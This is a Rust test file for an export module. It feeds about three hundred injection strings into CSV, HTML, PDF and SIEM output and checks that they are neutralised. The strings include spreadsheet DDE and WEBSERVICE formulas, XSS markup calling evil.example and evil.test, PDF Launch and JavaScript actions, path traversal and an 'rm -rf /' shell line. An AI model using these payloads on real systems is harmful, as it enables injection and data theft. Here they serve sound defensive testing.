//! Three hundred texts that are after something, in every place of every form where a text of somebody else's can stand.

use std::collections::BTreeSet;

use lifeboat::export::dossier::Dossier;
use lifeboat::export::{Paper, csv, dossier_html, dossier_pdf, ocsf};
use lifeboat::units::hidden;
use serde_json::Value;

use super::{csv_rows, export, pdf_text, piped, told};

/// Hosts that the texts would like to be asked for.
pub const HOSTS: [&str; 2] = ["evil.example", "evil.test"];

/// Formulas, markup, styles, control and bidirectional characters, operators of PDF, ends of JSON and CSV, escapes, bulk.
pub fn texts() -> Vec<String> {
    let formulas = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
        "IMPORTXML(\"http://evil.example\",\"//a\")",
        "WEBSERVICE(\"http://evil.example\")",
        "SUM(1,1)*cmd|'/C calc'!A1",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
    ];
    let starts = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "\0=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u{a0}=",
        "\"=",
        "'=",
        "\u{feff}=",
        "\u{200b}=",
        "\",=",
        "\r\n=",
    ];
    let mut all: Vec<String> = starts.iter().flat_map(|s| formulas.map(|f| format!("{s}{f}"))).collect();
    let marks = [
        "<script>document.documentElement.setAttribute('data-ran','1')</script>",
        "</script><script src=//evil.example/x.js></script>",
        "<img src=x onerror=\"document.documentElement.setAttribute('data-ran','1')\">",
        "<svg onload=\"fetch('https://evil.test')\">",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<style>@import url(https://evil.test/x.css);</style>",
        "</style><link rel=stylesheet href=https://evil.example/x.css>",
        "</title></svg><script>1</script>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.test/\">",
        "<form action=https://evil.example><input name=x>",
        "<object data=\"https://evil.example/x.swf\">",
        "<!-- --><![CDATA[ ]]>&lt;script&gt;&#60;script&#62;",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "javascript:alert(1)//https://evil.example",
        "\\\"};}@import 'https://evil.test';a{b:\"",
        "\\3c/style\\3e<script>1</script>",
        "{{constructor.constructor('alert(1)')()}}${7*7}<%= 7*7 %>",
        "BT /F1 12 Tf (x) Tj ET endstream endobj",
        "<< /S /JavaScript /JS (app.alert(1)) >>",
        "(\\) Tj /URI (https://evil.example) >> endobj trailer %%EOF",
        "/OpenAction << /S /Launch /F (calc.exe) >>",
        "\"},\"class_uid\":1001,\"x\":{\"y\":\"",
        "\\\"},{\\u0022seq\\u0022:0}",
        "}\n{\"class_uid\":1001}",
        "\u{2028}\u{2029}{\"a\":1}",
        "a,b,c\r\nnew,row,=1+1\r\n",
        "\",\"\"\",\"",
        "\u{1b}[2J\u{1b}[31mred\u{1b}]0;title\u{7}\u{1b}]8;;https://evil.example\u{7}x",
        "\u{9b}31mred \u{8}\u{8}\u{8}\u{7f}",
        "\u{202e}gnp.exe\u{202c} \u{2066}x\u{2069} \u{61c}",
        "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}",
        "\u{e0041}\u{e0042}\u{fff9}\u{fffb}\u{115f}\u{3164}",
        "Z̷̡̢̛͎̗̘̙̜̝̞̟̠̤̥̦̩̪̫̬̭̮̯a̴l̴g̴o 😀👩‍👩‍👧‍👦 東京 ﷽ ﬁ",
        "nul\0in the middle\u{1}\u{2}\u{1f}",
        "../../etc/passwd\0.png C:\\Windows\\..\\x \\\\evil.example\\share",
        "$(touch /tmp/x) `id` ; rm -rf / | cat && true",
    ];
    let frames = [("", ""), ("note ", " end"), ("\"", "\""), ("&quot;>", "")];
    all.extend(marks.iter().flat_map(|m| frames.map(|(a, b)| format!("{a}{m}{b}"))));
    all.push("long ".repeat(2_000));
    all.push("x".repeat(10_000));
    all.push("<".repeat(5_000));
    all.push("\"".repeat(5_000));
    all.push("=".repeat(3_000));
    all.push("\u{202e}".repeat(500));
    all
}

/// The rehearsal, every text of which is one of these.
pub fn dossier() -> Dossier {
    let mut d = told();
    let (all, mut n) = (texts(), 0);
    d.texts(&mut |text| {
        *text = all[n % all.len()].clone();
        n += 1;
    });
    assert!(n > 2 * all.len(), "every text comes up: {n} places for {} texts", all.len());
    d
}

/// What a spreadsheet would carry out, in half and full width.
fn acts(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'])
}

#[test]
fn there_are_three_hundred_of_them() {
    let all = texts();
    assert!(all.len() >= 300, "{}", all.len());
    assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len(), "each is another");
}

#[test]
fn no_cell_is_a_formula() {
    let d = dossier();
    let mut bytes = Vec::new();
    csv::write(&d, &mut bytes).unwrap();
    let rows = csv_rows(&bytes);
    assert_eq!(rows.len(), d.rows.len() + 1, "no text makes a row");
    for row in &rows {
        assert_eq!(row.len(), csv::COLUMNS.len(), "no text makes a cell: {row:?}");
        for cell in row {
            // As it stands, and as programs see it that drop blanks and quotes in front.
            assert!(!acts(cell) && !acts(cell.trim_start_matches([' ', '\u{a0}', '"', '\u{feff}'])), "{cell:?}");
            assert!(!cell.contains(hidden) && !cell.contains(['\n', '\r', '\t']), "{cell:?}");
        }
    }
    // One by one as well, at the beginning and alone.
    for text in texts() {
        let mut cell = String::new();
        csv::cell(&text, &mut cell);
        let rows = csv_rows(format!("{cell},x\r\n").as_bytes());
        assert_eq!((rows.len(), rows[0].len()), (1, 2), "{text:?}");
        assert!(!acts(&rows[0][0]), "{text:?}");
    }
    crate::figure(&format!("T13: {} hostile texts in every place of the forms, 0 formula cells", texts().len()));
}

/// Elements and attributes of a page by Python's own parser, as JSON lines: `[element, {attribute: value}]`.
const PARSE: &str = "import sys, json, html.parser\nclass P(html.parser.HTMLParser):\n  \
    def handle_starttag(s, t, a): print(json.dumps([t, dict(a)]))\n  \
    def handle_startendtag(s, t, a): print(json.dumps([t, dict(a)]))\n  \
    def handle_decl(s, d): print(json.dumps(['!', {d: ''}]))\n  \
    def handle_comment(s, d): print(json.dumps(['!--', {}]))\n  \
    def handle_pi(s, d): print(json.dumps(['?', {}]))\n\
    P().feed(open(sys.argv[1], encoding='utf-8', newline='').read())";

const ELEMENTS: [&str; 39] = [
    "!", "html", "head", "meta", "title", "style", "body", "main", "footer", "header", "section", "p", "span",
    "strong", "h1", "h2", "h3", "div", "dl", "dt", "dd", "code", "table", "colgroup", "col", "thead", "tbody", "tr",
    "th", "td", "br", "svg", "rect", "text", "ul", "li", "article", "em", "i",
];
const ATTRIBUTES: [&str; 21] = [
    "lang",
    "charset",
    "http-equiv",
    "content",
    "name",
    "class",
    "scope",
    "role",
    "viewbox",
    "x",
    "y",
    "width",
    "height",
    "fill",
    "stroke",
    "stroke-width",
    "font-size",
    "font-weight",
    "text-anchor",
    "doctype html",
    "id",
];

#[test]
fn no_text_becomes_markup() {
    let html = dossier_html(&dossier());
    let Some(parsed) = piped("python3", &["-c", PARSE, "@"], html.as_bytes()) else { return };
    let mut kinds = BTreeSet::new();
    for line in parsed.lines() {
        let (element, attributes): (String, std::collections::BTreeMap<String, Option<String>>) =
            serde_json::from_str(line).unwrap();
        assert!(ELEMENTS.contains(&element.as_str()), "<{element}>");
        for (name, value) in attributes {
            assert!(ATTRIBUTES.contains(&name.to_lowercase().as_str()), "<{element} {name}>");
            let value = value.unwrap_or_default().to_lowercase();
            assert!(
                !value.contains("://") && !value.contains("javascript:") && !value.contains("url("),
                "{name}={value}"
            );
        }
        kinds.insert(element);
    }
    assert!(["svg", "rect", "table", "code"].iter().all(|k| kinds.contains(*k)), "{kinds:?}");
    // The style is what its hash in the page's own policy says, and asks for nothing.
    assert_eq!(html.matches("<style>").count(), 1);
    let style = &html[html.find("<style>").unwrap() + 7..html.find("</style>").unwrap()];
    assert!(style.split("url(").skip(1).all(|u| u.starts_with("data:font/otf;base64,")) && !style.contains("@import"));
    assert!(html.contains("content=\"default-src 'none'; font-src data:; style-src 'sha256-"));
    let shown: String = html.chars().filter(|c| hidden(*c)).collect();
    assert!(shown.is_empty(), "{:?} went through", shown.chars().collect::<BTreeSet<_>>());
    crate::figure("T13: HTML of hostile texts: 0 elements and attributes beside its own, 0 addresses, no script");
}

#[test]
fn no_text_becomes_an_act_on_paper() {
    let pdf = dossier_pdf(&dossier(), Paper::A4).unwrap();
    for key in [&b"/JavaScript"[..], b"/JS", b"/Launch", b"/URI", b"/OpenAction", b"/AA", b"/SubmitForm"] {
        assert!(!pdf.windows(key.len()).any(|w| w == key), "{}", String::from_utf8_lossy(key));
    }
    piped("qpdf", &["--check", "@"], &pdf);
    if let Some(info) = piped("pdfinfo", &["@"], &pdf) {
        assert!(info.contains("JavaScript:      no") && info.contains("Tagged:          yes"), "{info}");
    }
    let Some(text) = pdf_text(&pdf) else { return };
    for said in ["/OpenAction << /S /Launch", "<script>document", "BT /F1 12 Tf", "\\u{202e}gnp.exe"] {
        assert!(text.contains(said), "{said} is not told as it is");
    }
    let shown: BTreeSet<char> = text.chars().filter(|c| hidden(*c) && !matches!(c, '\u{c}' | '\r')).collect();
    assert!(shown.is_empty(), "{shown:?} went through");
}

/// The required attributes and the enums of API Activity as published for OCSF 1.3.0 (github.com/ocsf/ocsf-schema:
/// events/base_event.json, events/application/api_activity.json, profiles/cloud.json, objects/{metadata,product,actor,user,
/// api,request,network_endpoint,cloud,account,resource_details}.json), written out by hand as far as they are used.
pub fn is_api_activity(e: &Value) {
    let number = |path: &str| e.pointer(path).and_then(Value::as_u64).unwrap_or_else(|| panic!("{path}: {e}"));
    let text = |path: &str| {
        let found = e.pointer(path).and_then(Value::as_str).filter(|t| !t.is_empty());
        found.unwrap_or_else(|| panic!("{path}: {e}"))
    };
    assert_eq!((number("/category_uid"), number("/class_uid")), (6, 6003));
    let activity = number("/activity_id");
    let caption = [(0, "Unknown"), (1, "Create"), (2, "Read"), (3, "Update"), (4, "Delete"), (99, "Other")];
    assert!(caption.contains(&(activity, text("/activity_name"))), "{e}");
    assert_eq!(number("/type_uid"), 600_300 + activity);
    assert!(e["time"].is_i64() || e["time"].is_u64(), "{e}");
    let severities =
        [(0, "Unknown"), (1, "Informational"), (2, "Low"), (3, "Medium"), (4, "High"), (5, "Critical"), (6, "Fatal")];
    assert!(severities.contains(&(number("/severity_id"), text("/severity"))), "{e}");
    assert!([(0, "Unknown"), (1, "Success"), (2, "Failure")].contains(&(number("/status_id"), text("/status"))), "{e}");
    assert_eq!(text("/metadata/version"), "1.3.0");
    assert_eq!(e["metadata"]["profiles"], serde_json::json!(["cloud"]));
    text("/metadata/uid");
    text("/metadata/product/name");
    text("/metadata/product/vendor_name");
    // Actor and endpoint: at least one of what tells them.
    let at_least_one = |of: &Value, names: &[&str]| names.iter().any(|n| of.get(n).is_some_and(|v| !v.is_null()));
    assert!(at_least_one(&e["actor"], &["process", "user", "invoked_by", "session", "app_name", "app_uid"]), "{e}");
    if let Some(user) = e["actor"].get("user") {
        assert!(at_least_one(user, &["account", "name", "uid"]), "{e}");
        assert!([0, 1, 2, 3, 99].contains(&user["type_id"].as_u64().unwrap()));
    }
    text("/api/operation");
    if e["api"].get("request").is_some() {
        text("/api/request/uid");
    }
    assert!(at_least_one(&e["src_endpoint"], &["ip", "uid", "name", "hostname", "svc_name", "instance_uid"]), "{e}");
    text("/cloud/provider");
    for r in e.get("resources").and_then(Value::as_array).into_iter().flatten() {
        assert!(at_least_one(r, &["name", "uid"]), "{e}");
    }
    assert!(e["unmapped"].is_object());
    // Nothing at the top that the class does not have.
    let known = [
        "activity_id",
        "activity_name",
        "actor",
        "api",
        "category_name",
        "category_uid",
        "class_name",
        "class_uid",
        "cloud",
        "message",
        "metadata",
        "resources",
        "severity",
        "severity_id",
        "src_endpoint",
        "status",
        "status_id",
        "time",
        "type_uid",
        "unmapped",
    ];
    assert!(e.as_object().unwrap().keys().all(|k| known.contains(&k.as_str())), "{e}");
}

#[test]
fn no_text_breaks_a_line_for_a_siem() {
    let d = dossier();
    let mut bytes = Vec::new();
    ocsf::write(&d, &mut bytes).unwrap();
    let lines: Vec<&[u8]> = bytes.split(|b| *b == b'\n').filter(|l| !l.is_empty()).collect();
    assert_eq!(lines.len(), d.rows.len());
    for (line, r) in lines.iter().zip(&d.rows) {
        let event: Value = serde_json::from_slice(line).unwrap();
        is_api_activity(&event);
        assert_eq!(event["unmapped"]["seq"], r.seq);
        let text = std::str::from_utf8(line).unwrap();
        assert!(!text.contains(hidden), "{text:?}");
    }
}

#[test]
fn a_record_of_nothing_but_such_texts_is_exported_whole() {
    use lifeboat::journal::{Draft, Header, Journal, RealDisk};
    use lifeboat::record::{Actor, App, Kind, Mode, Person};
    let home = tempfile::tempdir().unwrap();
    let run = "h1-hostile";
    let app = App { version: "<b>1</b>".to_owned(), sha256: None };
    let header = Header { ballast: 0, ..Header::new(run, Mode::Live, app, "=device") };
    let dir = home.path().join("runs").join(run);
    let mut journal = Journal::create(std::sync::Arc::new(RealDisk), dir, header).unwrap();
    let all = texts();
    let notes: Vec<Draft> = all
        .iter()
        .map(|text| {
            let actor = Actor::Person(Person { name: text.chars().take(60).collect(), ..Person::default() });
            Draft::new(Kind::Note, Mode::Live, actor, serde_json::json!({ "text": text }))
        })
        .collect();
    for heap in notes.chunks(50) {
        journal.append(heap).unwrap();
    }
    journal.seal().unwrap();
    for form in ["jsonl", "csv", "html", "pdf", "ocsf", "bundle"] {
        let out = home.path().join(form);
        let said = export(home.path(), run, &[form], &out);
        assert_eq!(said.code, 0, "{form}: {}", said.err);
        assert!(std::fs::metadata(&out).unwrap().len() > 1_000, "{form}");
        assert!(!said.err.contains(hidden), "{form}: {:?}", said.err);
    }
    let rows = csv_rows(&std::fs::read(home.path().join("csv")).unwrap());
    assert!(rows.len() > all.len() && rows.iter().flatten().all(|c| !acts(c)));
    let html = std::fs::read_to_string(home.path().join("html")).unwrap();
    assert!(
        html.contains("Not told") && html.contains("LIVE") && !html.contains("<script"),
        "the mode is known all the same"
    );
}
